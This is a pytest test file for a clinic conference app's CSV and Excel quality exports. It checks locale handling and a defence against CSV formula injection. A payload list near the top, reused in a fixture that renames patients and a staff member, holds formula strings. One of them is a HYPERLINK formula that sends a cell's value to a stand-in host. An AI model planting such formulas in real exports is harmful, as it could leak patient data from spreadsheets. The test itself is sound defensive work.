"""The quality exports opened as a spreadsheet program would: no cell runs as a formula whatever a patient or a
staff member is called (OWASP's CSV-injection rule), Swedish readers get semicolons, a decimal comma and a BOM,
English readers commas; the workbook's sheets are named in the reader's language and its dates are date cells."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from conference.extensions import db
from conference.patients.models import Patient
from conference.people.models import User
from conference.spreadsheet import FORMULA_STARTS
from tests.conftest import login
from tests.functional.quality.test_quality import build_unit

EXFILTRATE = '=HYPERLINK("http://host/?"&B2,"open")'
PAYLOADS = [EXFILTRATE, "＝1+2", "+1+2", "＠SUM(1)", "-1+2", "@SUM(1)", "\t=1+2", "\r=1+2", "＋1", "－1"]


@pytest.fixture
def poisoned(app, make_user, clock):
    """The hand-made unit with every patient and the endocrinologist named like a formula."""
    unit = build_unit(app, make_user, clock)
    with app.app_context():
        ids = list(db.session.scalars(select(Patient.id).order_by(Patient.id)))
        for n, patient_id in enumerate(ids):
            db.session.execute(
                update(Patient)
                .where(Patient.id == patient_id)
                .values(family_name=PAYLOADS[n % len(PAYLOADS)], given_name=PAYLOADS[(n + 1) % len(PAYLOADS)])
            )
        db.session.execute(update(User).where(User.name == "Endo Krinolog").values(name=EXFILTRATE))
        db.session.commit()
    return unit


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _set_locale(app, email, locale):
    with app.app_context():
        db.session.execute(update(User).where(User.email == email).values(locale=locale))
        db.session.commit()


@pytest.mark.parametrize("locale, delimiter", [("sv", ";"), ("en", ",")])
def test_no_csv_cell_starts_like_a_formula(app, client, poisoned, locale, delimiter):
    _set_locale(app, poisoned["coordinator"], locale)
    login(client, poisoned["coordinator"])
    query = f"start={poisoned['start']}&end={poisoned['end']}&series=0"
    for url in ("/quality/cases.csv", "/quality/attendance.csv", "/quality/meetings.csv"):
        response = client.get(f"{url}?{query}")
        assert response.status_code == 200
        assert response.data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
        cells = _cells(response.data.decode("utf-8-sig"), delimiter)
        assert len(cells) > 10
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert not dangerous, (url, dangerous)
    per_case = _cells(client.get(f"/quality/cases.csv?{query}").data.decode("utf-8-sig"), delimiter)
    assert "'" + EXFILTRATE in per_case and "'＝1+2" in per_case  # shown as typed, behind the quote
    attendance = _cells(client.get(f"/quality/attendance.csv?{query}").data.decode("utf-8-sig"), delimiter)
    assert "'" + EXFILTRATE in attendance


def test_no_workbook_cell_is_a_formula(app, client, poisoned):
    login(client, poisoned["coordinator"])
    query = f"start={poisoned['start']}&end={poisoned['end']}&series=0"
    book = load_workbook(io.BytesIO(client.get(f"/quality/report.xlsx?{query}").data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EXFILTRATE in texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]


def test_swedish_csv_splits_in_swedish_excel(app, client, unit_sv):
    login(client, unit_sv["coordinator"])  # the coordinator reads Swedish
    query = f"start={unit_sv['start']}&end={unit_sv['end']}&series=0"
    text = client.get(f"/quality/meeting_summary.csv?{query}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["Mått", "Värde"]
    values = dict(rows[1:])
    assert values["Fall per möte (medel)"] == "3,0"  # decimal comma, no comma as separator
    meetings = list(csv.reader(io.StringIO(client.get(f"/quality/meetings.csv?{query}").data.decode("utf-8-sig"))))
    assert all(len(r) == 1 for r in meetings)  # commas do not split a Swedish file: it is not comma-separated


def test_workbook_sheets_in_the_readers_language_and_dates_as_dates(app, client, unit_sv):
    login(client, unit_sv["coordinator"])
    query = f"start={unit_sv['start']}&end={unit_sv['end']}&series=0"
    book = load_workbook(io.BytesIO(client.get(f"/quality/report.xlsx?{query}").data))
    assert book.sheetnames[0] == "Översikt"
    assert "Möten" in book.sheetnames and "meetings" not in book.sheetnames
    assert all(len(name) <= 31 for name in book.sheetnames) and len(set(book.sheetnames)) == len(book.sheetnames)
    dates = [row[0] for row in book["Möten"].iter_rows(min_row=3)]
    assert len(dates) == 2
    for cell in dates:
        assert cell.is_date and isinstance(cell.value.date(), date) and "yy" in cell.number_format


@pytest.fixture
def unit_sv(app, make_user, clock):
    return build_unit(app, make_user, clock)
